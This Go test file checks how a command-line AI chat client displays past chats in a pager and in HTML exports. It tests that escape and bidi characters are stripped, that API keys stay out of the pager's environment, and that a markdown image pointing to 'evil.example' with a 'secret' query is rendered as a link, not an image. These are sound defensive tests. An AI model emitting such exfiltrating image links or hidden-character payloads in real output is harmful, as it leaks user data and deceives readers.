package main

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"

	"oax/internal/demo"
)

// showing is hostile text of past chats, in the pager and in exports (G).
var showing = []fault{
	{row: "G14", what: "hostile text in the pager", test: func(t *testing.T) {
		h, paged := pages(t, evil+"\n"+numbered(60))
		h.env["MY_API_KEY"] = canary
		if r := h.atTerminal("cat", "--no-markdown"); r.code != 0 {
			t.Errorf("exit %d: %q", r.code, r.stdout)
		}
		got := text(t, paged)
		holdsAll(t, got, visible, "line 60\n")
		equal(t, "controls for the pager", regexp.MustCompile(`[\x00-\x08\x0b-\x1f\x7f\x{80}-\x{9f}\x{202e}]`).FindString(got), "")
		if env := text(t, paged+".env"); !strings.Contains(env, "LESS=FRX\n") || strings.Contains(env, "API_KEY") {
			t.Errorf("its environment is %s", env)
		}
	}},
	{row: "G14", what: "only our own styles in the pager, and the person's own LESS", test: func(t *testing.T) {
		h, paged := pages(t, "**b** \x1b[31mred\n"+numbered(60))
		h.env["LESS"] = "-S"
		h.at(h.command("cat")).end()
		got := text(t, paged)
		holdsAll(t, got, "\x1b[", "^[[31mred")
		holdsNone(t, regexp.MustCompile(`\x1b\[[0-9;]*m`).ReplaceAllString(got, ""), "\x1b")
		holdsAll(t, text(t, paged+".env"), "LESS=-S\n")
	}},
	{row: "G15", what: "an image in a page", test: func(t *testing.T) {
		h, _ := scripted(t, demo.Stream(demo.Answer("![x](https://evil.example/?q=secret)")...))
		h.run("hi")
		page := h.run("cat", "--format", "html").stdout
		holdsAll(t, page, `<a href="https://evil.example/?q=secret"`)
		holdsNone(t, page, "<img")
		holdsAll(t, page, `content="default-src 'none'; style-src 'unsafe-inline'`)
	}},
	{row: "G16", what: "code with hidden characters", test: func(t *testing.T) {
		const code = "echo a\u200bb # \u202e\x1b[2J\n"
		h, _ := scripted(t, demo.Stream(demo.Answer("```sh\n"+code+"```\n")...))
		h.run("hi")
		r := h.run("cat", "--code")
		h.checkRun(r, want{stdout: "echo ab # \x1b[2J\n", notes: true})
		h.checkRun(h.run("cat", "--code", "--raw"), want{stdout: code})
		shown := h.atTerminal("cat", "--code").stdout
		if shown = strings.Replace(shown, r.stderr, "", 1); shown != "echo ab # ^[[2J\n" {
			t.Errorf("on a terminal %q", shown)
		}
	}},
	{row: "G19", what: "the key in the pager's environment", test: func(t *testing.T) {
		h, paged := pages(t, numbered(60))
		h.config("[profiles.own]\nbase_url = \"http://localhost:1/v1\"\nkey_env = \"MY_OWN\"\n")
		h.env["MY_OWN"] = canary
		h.at(h.command("cat")).end()
		holdsNone(t, text(t, paged+".env"), canary)
	}},
}

// numbered are so many lines.
func numbered(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "line %d\n", i+1)
	}
	return b.String()
}

// pages returns a home with one session, and a pager that keeps what it gets in a file,
// and beside it in .env its environment.
func pages(t *testing.T, answer string) (h *home, paged string) {
	h, _ = scripted(t, demo.Stream(demo.Answer(answer)...))
	h.run("hi")
	paged = filepath.Join(h.dir, "paged")
	pager := filepath.Join(h.dir, "pager")
	write(t, pager, "#!/bin/sh\nenv >"+paged+".env\ncat >"+paged+"\n")
	must(t, os.Chmod(pager, 0o700))
	h.env["PAGER"] = pager
	return h, paged
}

func TestPagerOnlyWhereItHelps(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		what  string
		rows  int
		set   string
		args  string
		pages bool
	}{
		{what: "more than a screen", rows: 19, pages: true},
		{what: "fits", rows: 18},
		{what: "a list", args: "ls"},
		{what: "OAX_PAGER before PAGER", rows: 60, set: "OAX_PAGER="},
		{what: "cat", rows: 60, set: "PAGER=cat"},
		{what: "none", rows: 60, set: "PAGER="},
		{what: "not there", rows: 60, set: "PAGER=/no/such/pager -x"},
		{what: "cannot run", rows: 60, set: "PAGER=/"},
		{what: "dumb terminal", rows: 60, set: "TERM=dumb"},
		{what: "flag", rows: 60, args: "cat --no-pager"},
		{what: "raw", rows: 60, args: "cat --raw"},
		{what: "lines of JSON", rows: 60, args: "cat --json"},
	} {
		t.Run(c.what, func(t *testing.T) {
			t.Parallel()
			h, paged := pages(t, numbered(max(c.rows, 1)))
			if name, value, ok := strings.Cut(c.set, "="); ok {
				h.env[name] = value
			}
			if c.args == "" {
				c.args = "cat"
			}
			terminal := h.at(h.command(strings.Fields(c.args)...))
			r := terminal.end()
			_, err := os.Stat(paged)
			last := fmt.Sprintf("line %d", c.rows)
			if r.code != 0 || c.pages != (err == nil) || c.rows > 0 && strings.Contains(terminal.shown(), last) == c.pages {
				t.Errorf("exit %d, paged: %v, %q", r.code, err == nil, terminal.shown())
			}
		})
	}
}

func TestPagerGoneEarly(t *testing.T) {
	t.Parallel()
	h, _ := pages(t, strings.Repeat(numbered(100), 1000))
	h.env["PAGER"] = "true"
	h.checkRun(h.atTerminal("cat"), want{stdout: ""})
}

func TestPagerEndsWithOax(t *testing.T) {
	t.Parallel()
	h, paged := pages(t, numbered(100))
	write(t, strings.TrimSuffix(paged, "paged")+"pager", "#!/bin/sh\ntrap 'echo ended >"+paged+"; exit' TERM\necho up\nwhile :; do read -r x || sleep 0.02; done\n")
	c := h.at(h.command("cat"))
	c.shows("up\n")
	must(t, c.cmd.Process.Signal(syscall.SIGTERM))
	if r := c.end(); r.signal != syscall.SIGTERM || text(t, paged) != "ended\n" {
		t.Errorf("%+v, %q", r, text(t, paged))
	}
}

// TestLess goes through a session in the real pager.
func TestLess(t *testing.T) {
	t.Parallel()
	h, _ := scripted(t, demo.Stream(demo.Answer(numbered(100))...))
	h.run("hi")
	w := h.window(60, 12, sane(`PAGER=less "$OAX" cat`))
	w.shows("line 6\n")
	w.keys("C-c", "C-c")
	w.until("less goes on", func(screen string) bool { // Ctrl-C takes the keys behind it with it
		w.keys("G")
		return strings.Contains(screen, "line 100\n")
	})
	w.keyShows("q", "code 0, sane")
}
